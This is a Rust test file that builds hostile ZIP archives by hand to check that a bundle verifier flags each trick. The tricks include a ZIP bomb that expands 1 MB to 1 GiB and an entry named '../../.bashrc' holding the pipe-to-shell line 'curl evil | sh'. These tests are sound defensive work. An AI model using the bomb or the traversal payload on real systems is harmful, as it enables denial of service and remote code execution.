//! Each trick a ZIP can play, built here byte by byte (no checked-in files), checked through
//! "Verify a bundle" as a user meets it: the named finding, never "intact", and memory that
//! stays within a fixed bound however large the ZIP says it is (measured by a counting
//! allocator on the test's own thread).

use std::alloc::{GlobalAlloc, Layout, System};
use std::cell::Cell;
use std::io::Write;
use std::path::Path;

use sha2::{Digest, Sha256};
use sightline_api::CancelToken;

use super::super::verify::{verify_bundle, BundleCheck, FileOutcome, Known};
use super::super::{hex, MANIFEST_JSON, POSTS_CSV, SHA256SUMS};
use super::{FindingKind, ReadProgress, CHUNK};

// ---- Memory: a counting allocator, per thread, on only while a test measures ----

struct Counting;

thread_local! {
    static MEASURING: Cell<bool> = const { Cell::new(false) };
    static LIVE: Cell<isize> = const { Cell::new(0) };
    static PEAK: Cell<isize> = const { Cell::new(0) };
}

fn count(delta: isize) {
    let _ = MEASURING.try_with(|on| {
        if on.get() {
            let live = LIVE.get() + delta;
            LIVE.set(live);
            PEAK.set(PEAK.get().max(live));
        }
    });
}

// SAFETY: every call is passed to the system allocator unchanged; only sizes are counted.
unsafe impl GlobalAlloc for Counting {
    unsafe fn alloc(&self, layout: Layout) -> *mut u8 {
        count(layout.size() as isize);
        unsafe { System.alloc(layout) }
    }
    unsafe fn dealloc(&self, ptr: *mut u8, layout: Layout) {
        count(-(layout.size() as isize));
        unsafe { System.dealloc(ptr, layout) }
    }
    unsafe fn alloc_zeroed(&self, layout: Layout) -> *mut u8 {
        count(layout.size() as isize);
        unsafe { System.alloc_zeroed(layout) }
    }
    unsafe fn realloc(&self, ptr: *mut u8, layout: Layout, new_size: usize) -> *mut u8 {
        count(new_size as isize - layout.size() as isize);
        unsafe { System.realloc(ptr, layout, new_size) }
    }
}

#[global_allocator]
static ALLOCATOR: Counting = Counting;

/// Runs `f` and says the most memory it held at once on this thread (beyond what it found).
fn peak_of<R>(f: impl FnOnce() -> R) -> (R, usize) {
    LIVE.set(0);
    PEAK.set(0);
    MEASURING.set(true);
    let result = f();
    MEASURING.set(false);
    (result, usize::try_from(PEAK.get()).unwrap_or(0))
}

/// The bound this reader keeps for a ZIP with a small index, whatever its entries inflate to:
/// its buffers (two of [`CHUNK`], the inflater's window and state, the end record's search)
/// with room to spare.
const SMALL_INDEX_BOUND: usize = 1 << 20;

// ---- ZIPs by hand ----

/// One entry as written: its stored bytes and what its headers say.
struct Put {
    name: String,
    stored: Vec<u8>,
    method: u16,
    flags: u16,
    crc: u32,
    size: u64,
}

fn crc_of(content: &[u8]) -> u32 {
    let mut crc = flate2::Crc::new();
    crc.update(content);
    crc.sum()
}

fn stored(name: &str, content: &[u8]) -> Put {
    Put {
        name: name.into(),
        stored: content.to_vec(),
        method: 0,
        flags: 0x800,
        crc: crc_of(content),
        size: content.len() as u64,
    }
}

fn deflated(name: &str, content: &[u8]) -> Put {
    let mut encoder =
        flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::default());
    encoder.write_all(content).unwrap();
    Put {
        method: 8,
        stored: encoder.finish().unwrap(),
        ..stored(name, content)
    }
}

/// A ZIP written byte by byte: entries' headers and data, then the index and its end.
#[derive(Default)]
struct RawZip {
    out: Vec<u8>,
    index: Vec<u8>,
    entries: u64,
}

impl RawZip {
    /// Bytes no index lists.
    fn unlisted(&mut self, bytes: &[u8]) {
        self.out.extend_from_slice(bytes);
    }

    /// An entry's own header and data, without listing it in the index.
    fn local(&mut self, put: &Put) -> u64 {
        let at = self.out.len() as u64;
        let o = &mut self.out;
        o.extend_from_slice(&0x0403_4b50u32.to_le_bytes());
        o.extend_from_slice(&20u16.to_le_bytes());
        o.extend_from_slice(&put.flags.to_le_bytes());
        o.extend_from_slice(&put.method.to_le_bytes());
        o.extend_from_slice(&[0, 0, 0x21, 0]); // time, date
        o.extend_from_slice(&put.crc.to_le_bytes());
        o.extend_from_slice(&(put.stored.len() as u32).to_le_bytes());
        o.extend_from_slice(&(put.size.min(u64::from(u32::MAX)) as u32).to_le_bytes());
        o.extend_from_slice(&(put.name.len() as u16).to_le_bytes());
        o.extend_from_slice(&0u16.to_le_bytes());
        o.extend_from_slice(put.name.as_bytes());
        o.extend_from_slice(&put.stored);
        at
    }

    /// An entry's line in the index, pointing at `at`.
    fn list(&mut self, put: &Put, at: u64) {
        let i = &mut self.index;
        i.extend_from_slice(&0x0201_4b50u32.to_le_bytes());
        i.extend_from_slice(&[20, 3, 20, 0]);
        i.extend_from_slice(&put.flags.to_le_bytes());
        i.extend_from_slice(&put.method.to_le_bytes());
        i.extend_from_slice(&[0, 0, 0x21, 0]);
        i.extend_from_slice(&put.crc.to_le_bytes());
        i.extend_from_slice(&(put.stored.len() as u32).to_le_bytes());
        i.extend_from_slice(&(put.size.min(u64::from(u32::MAX)) as u32).to_le_bytes());
        i.extend_from_slice(&(put.name.len() as u16).to_le_bytes());
        i.extend_from_slice(&[0; 8]); // extra, comment, disk, internal attributes
        i.extend_from_slice(&0u32.to_le_bytes());
        i.extend_from_slice(&(at as u32).to_le_bytes());
        i.extend_from_slice(put.name.as_bytes());
        self.entries += 1;
    }

    fn put(&mut self, put: &Put) {
        let at = self.local(put);
        self.list(put, at);
    }

    /// The index and its end record (a ZIP64 one too past 65,535 entries).
    fn finish(mut self) -> Vec<u8> {
        let index_at = self.out.len() as u64;
        let index_len = self.index.len() as u64;
        self.out.extend_from_slice(&self.index);
        let mut count16 = self.entries as u16;
        if self.entries > 0xFFFF {
            count16 = 0xFFFF;
            let zip64_at = self.out.len() as u64;
            let o = &mut self.out;
            o.extend_from_slice(&0x0606_4b50u32.to_le_bytes());
            o.extend_from_slice(&44u64.to_le_bytes());
            o.extend_from_slice(&[45, 0, 45, 0]);
            o.extend_from_slice(&[0; 8]);
            o.extend_from_slice(&self.entries.to_le_bytes());
            o.extend_from_slice(&self.entries.to_le_bytes());
            o.extend_from_slice(&index_len.to_le_bytes());
            o.extend_from_slice(&index_at.to_le_bytes());
            o.extend_from_slice(&0x0706_4b50u32.to_le_bytes());
            o.extend_from_slice(&0u32.to_le_bytes());
            o.extend_from_slice(&zip64_at.to_le_bytes());
            o.extend_from_slice(&1u32.to_le_bytes());
        }
        let o = &mut self.out;
        o.extend_from_slice(&0x0605_4b50u32.to_le_bytes());
        o.extend_from_slice(&[0; 4]);
        o.extend_from_slice(&count16.to_le_bytes());
        o.extend_from_slice(&count16.to_le_bytes());
        o.extend_from_slice(&(index_len as u32).to_le_bytes());
        o.extend_from_slice(&(index_at as u32).to_le_bytes());
        o.extend_from_slice(&0u16.to_le_bytes());
        self.out
    }
}

const CSV: &[u8] = b"id,text\n1864029172638449665,Rivers rise\n";

/// A bundle's smallest honest shape: one file, the manifest listing it, and SHA256SUMS listing
/// both. `csv` is the file's content; the sums are always of [`CSV`] unless `recompute`.
fn lists_for(csv: &[u8]) -> (Vec<u8>, Vec<u8>) {
    let csv_hash = hex(&Sha256::digest(csv));
    let manifest = serde_json::to_vec_pretty(&serde_json::json!({
        "format": "sightline-evidence-bundle",
        "files": [{"path": POSTS_CSV, "bytes": csv.len(), "sha256": csv_hash}],
    }))
    .unwrap();
    let sums = format!(
        "{csv_hash}  {POSTS_CSV}\n{}  {MANIFEST_JSON}\n",
        hex(&Sha256::digest(&manifest))
    );
    (manifest, sums.into_bytes())
}

/// The honest bundle's entries, each deflated as Sightline writes them.
fn honest() -> Vec<Put> {
    let (manifest, sums) = lists_for(CSV);
    vec![
        deflated(POSTS_CSV, CSV),
        deflated(MANIFEST_JSON, &manifest),
        deflated(SHA256SUMS, &sums),
    ]
}

fn zip_of(entries: &[Put]) -> RawZip {
    let mut zip = RawZip::default();
    for put in entries {
        zip.put(put);
    }
    zip
}

fn check(path: &Path) -> BundleCheck {
    verify_bundle(path, &Known::default(), &mut |_| {}, &CancelToken::new())
        .unwrap()
        .unwrap()
}

/// Writes `bytes` as a ZIP and checks it, measuring the check's memory.
fn checked(bytes: &[u8]) -> (BundleCheck, usize) {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("b.zip");
    std::fs::write(&path, bytes).unwrap();
    peak_of(|| check(&path))
}

fn kinds(check: &BundleCheck) -> Vec<FindingKind> {
    check.findings.iter().map(|f| f.kind).collect()
}

/// A check that found `kind`: not intact, and its verdict claims no match of the whole.
fn assert_found(check: &BundleCheck, kind: FindingKind, words: &str) {
    assert!(!check.intact, "{check:#?}");
    assert!(
        check
            .findings
            .iter()
            .any(|f| f.kind == kind && f.words.contains(words)),
        "no {kind:?} saying {words:?} in {:#?}",
        check.findings
    );
    assert!(!check.verdict.starts_with("All "), "{}", check.verdict);
}

// ---- The tests ----

#[test]
fn an_honest_zip_has_no_finding_and_says_only_what_the_sums_prove() {
    let (check, peak) = checked(&zip_of(&honest()).finish());
    assert!(check.intact, "{check:#?}");
    assert!(check.findings.is_empty());
    assert_eq!(
        check.verdict,
        "All 2 files SHA256SUMS lists match the sums written inside the bundle, and the ZIP \
         holds nothing else. This shows the files agree with the bundle's own lists, not who \
         made it or when: whoever edits a file can write new sums too. The bundle is not \
         signed, so who made it and when cannot be checked."
    );
    assert!(peak < SMALL_INDEX_BOUND, "{peak} bytes");
}

#[test]
fn two_entries_with_one_name_are_found_and_each_copy_checked() {
    let mut entries = honest();
    entries.insert(1, deflated(POSTS_CSV, b"id,text\n1,forged\n"));
    let (check, _) = checked(&zip_of(&entries).finish());
    assert_found(
        &check,
        FindingKind::DuplicateName,
        "Two entries are named posts.csv",
    );
    let csv = check.files.iter().find(|f| f.path == POSTS_CSV).unwrap();
    assert_eq!(csv.outcome, FileOutcome::Changed, "the forged copy is seen");

    // Names that differ only in case replace each other on Windows and macOS.
    let mut entries = honest();
    entries.push(deflated("Posts.CSV", b"x"));
    let (check, _) = checked(&zip_of(&entries).finish());
    assert_found(&check, FindingKind::DuplicateName, "differ only in case");
}

#[test]
fn a_folder_entry_holding_data_is_found() {
    let mut entries = honest();
    entries.push(deflated("responses/", b"a body no tool shows"));
    entries.push(stored("empty/", b""));
    let (check, _) = checked(&zip_of(&entries).finish());
    assert_found(&check, FindingKind::FolderHoldsData, "responses/ holds");
    assert_eq!(
        kinds(&check),
        [FindingKind::FolderHoldsData],
        "an empty folder is no finding"
    );
}

#[test]
fn an_entry_placed_before_the_first_one_the_index_names_is_found() {
    let mut zip = RawZip::default();
    let hidden = deflated(
        POSTS_CSV,
        b"id,text\n1,what tools reading from the start show\n",
    );
    zip.local(&hidden);
    for put in honest() {
        zip.put(&put);
    }
    let (check, _) = checked(&zip.finish());
    assert_found(
        &check,
        FindingKind::DataOutsideIndex,
        "before the first entry (posts.csv) are listed in no index: an entry named posts.csv",
    );
    assert!(check
        .files
        .iter()
        .all(|f| f.outcome == FileOutcome::Matches));
    assert!(
        check
            .verdict
            .contains("the ZIP holds more than those files"),
        "{}",
        check.verdict
    );
}

#[test]
fn bytes_between_entries_and_after_the_end_are_found() {
    let mut zip = RawZip::default();
    let entries = honest();
    zip.put(&entries[0]);
    zip.unlisted(b"smuggled");
    zip.put(&entries[1]);
    zip.put(&entries[2]);
    let mut bytes = zip.finish();
    bytes.extend_from_slice(b"trailing");
    let (check, _) = checked(&bytes);
    assert_found(
        &check,
        FindingKind::DataOutsideIndex,
        "8 bytes between posts.csv and manifest.json",
    );
    assert_found(
        &check,
        FindingKind::DataOutsideIndex,
        "8 bytes follow the end of the ZIP",
    );
}

#[test]
fn encrypted_and_unknown_method_entries_are_found_not_skipped() {
    let mut entries = honest();
    entries.push(Put {
        flags: 0x801,
        ..stored("responses/0001-secret.json", b"\x00\x01ciphertext")
    });
    entries.push(Put {
        method: 12,
        ..stored("responses/0002-bzip2.json", b"BZh9")
    });
    let (check, _) = checked(&zip_of(&entries).finish());
    assert_found(
        &check,
        FindingKind::Encrypted,
        "0001-secret.json is encrypted",
    );
    assert_found(&check, FindingKind::UnknownMethod, "method 12");
    let unchecked = |name: &str| check.files.iter().find(|f| f.path == name).unwrap().outcome;
    assert_eq!(unchecked("responses/0001-secret.json"), FileOutcome::Extra);
}

/// 1 MB that inflates to 1 GiB of zeros: deflate's best ratio (about 1,000 to 1), made by
/// repeating one flushed 4 MiB block 256 times (a stream may be a run of blocks).
fn bomb() -> (Vec<u8>, u64, u32) {
    let block_size = 4usize << 20;
    let zeros = vec![0u8; block_size];
    let mut encoder = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::best());
    encoder.write_all(&zeros).unwrap();
    encoder.flush().unwrap(); // a sync flush: whole blocks, none of them the last
    let block = encoder.get_ref().clone();
    let mut crc_block = flate2::Crc::new();
    crc_block.update(&zeros);
    let mut crc = flate2::Crc::new();
    let mut stored = Vec::with_capacity(block.len() * 256 + 2);
    for _ in 0..256 {
        stored.extend_from_slice(&block);
        crc.combine(&crc_block);
    }
    stored.extend_from_slice(&[0x03, 0x00]); // an empty last block
    (stored, (block_size as u64) * 256, crc.sum())
}

#[test]
fn a_one_megabyte_bomb_of_a_gibibyte_is_found_without_inflating_it() {
    let (stored, size, crc) = bomb();
    assert!(stored.len() < 1_200_000, "{} bytes stored", stored.len());
    assert!(size >= 1 << 30);
    let put = |name: &str, size: u64| Put {
        name: name.into(),
        stored: stored.clone(),
        method: 8,
        flags: 0x800,
        crc,
        size,
    };
    // Its index says what it holds: refused before a byte is inflated.
    let mut entries = honest();
    entries.push(put("responses/0001-bomb.json", size));
    let (check, peak) = checked(&zip_of(&entries).finish());
    assert_found(&check, FindingKind::TooCompressed, "a ZIP bomb");
    assert!(peak < SMALL_INDEX_BOUND, "{peak} bytes");

    // Its index lies (a plausible 50 MB): inflating stops past the size it claims.
    let mut entries = honest();
    entries.push(put("responses/0001-bomb.json", 50 << 20));
    let started = std::time::Instant::now();
    let (check, peak) = checked(&zip_of(&entries).finish());
    assert_found(
        &check,
        FindingKind::Damaged,
        "holds more than the 52428800 bytes",
    );
    assert!(peak < SMALL_INDEX_BOUND, "{peak} bytes");
    println!(
        "the lying bomb: stopped in {:?}, at most {peak} bytes held",
        started.elapsed()
    );
}

#[test]
fn a_hundred_thousand_entries_are_refused_before_the_index_is_read() {
    let mut zip = RawZip::default();
    for put in honest() {
        zip.put(&put);
    }
    for n in 0..100_000u32 {
        zip.put(&Put {
            name: format!("r/{n}"),
            ..stored("", b"")
        });
    }
    let bytes = zip.finish();
    let (check, peak) = checked(&bytes);
    assert_found(&check, FindingKind::TooManyEntries, "100003 entries");
    assert!(check.files.is_empty());
    assert!(
        check.verdict.contains("was not read to its end"),
        "{}",
        check.verdict
    );
    assert!(peak < SMALL_INDEX_BOUND, "{peak} bytes");
}

#[test]
fn an_entry_whose_own_header_names_another_file_is_found() {
    let mut zip = RawZip::default();
    let entries = honest();
    let at = zip.local(&Put {
        name: "posts.CSV".into(),
        ..deflated(POSTS_CSV, CSV)
    });
    zip.list(&entries[0], at);
    zip.put(&entries[1]);
    zip.put(&entries[2]);
    let (check, _) = checked(&zip.finish());
    assert_found(
        &check,
        FindingKind::HeadersDisagree,
        "calls itself posts.CSV",
    );
}

#[test]
fn bytes_hidden_after_an_entrys_compressed_data_are_found() {
    let mut entries = honest();
    entries[0]
        .stored
        .extend_from_slice(b"hidden after the last block");
    let (check, _) = checked(&zip_of(&entries).finish());
    assert_found(
        &check,
        FindingKind::HiddenInEntry,
        "27 bytes after its compressed data",
    );
}

#[test]
fn names_that_climb_out_of_the_folder_are_found() {
    let mut entries = honest();
    entries.push(deflated("../../.bashrc", b"curl evil | sh"));
    let (check, _) = checked(&zip_of(&entries).finish());
    assert_found(&check, FindingKind::UnsafeName, "../../.bashrc");
}

/// A file edited and both lists recomputed matches every sum: the words say that much and no
/// more (not that Sightline wrote it, nor that it is as it was).
#[test]
fn an_edit_with_recomputed_sums_is_not_called_exactly_as_written() {
    let forged = b"id,text\n1864029172638449665,Rivers fall\n";
    let (manifest, sums) = lists_for(forged);
    let entries = [
        deflated(POSTS_CSV, forged),
        deflated(MANIFEST_JSON, &manifest),
        deflated(SHA256SUMS, &sums),
    ];
    let (check, _) = checked(&zip_of(&entries).finish());
    assert!(check.intact, "the sums do hold");
    assert!(!check.verdict.contains("exactly as"), "{}", check.verdict);
    assert!(
        !check.verdict.contains("Sightline wrote"),
        "{}",
        check.verdict
    );
    assert!(
        check.verdict.contains("not who made it or when"),
        "{}",
        check.verdict
    );
}

#[test]
fn a_check_reports_progress_and_stops_on_a_cancel() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("b.zip");
    let mut entries = honest();
    for n in 0..40 {
        entries.push(deflated(
            &format!("responses/{n:04}.json"),
            &vec![b'x'; CHUNK],
        ));
    }
    std::fs::write(&path, zip_of(&entries).finish()).unwrap();
    let mut seen: Vec<ReadProgress> = Vec::new();
    verify_bundle(
        &path,
        &Known::default(),
        &mut |p| seen.push(p),
        &CancelToken::new(),
    )
    .unwrap()
    .unwrap();
    let last = seen.last().unwrap();
    assert_eq!((last.done, last.total, last.percent), (43, 43, 100));

    let cancel = CancelToken::new();
    let mut reports = 0;
    let outcome = verify_bundle(
        &path,
        &Known::default(),
        &mut |_| {
            reports += 1;
            cancel.cancel();
        },
        &cancel,
    )
    .unwrap();
    assert!(outcome.is_none(), "a cancelled check answers nothing");
    assert_eq!(reports, 1);
}
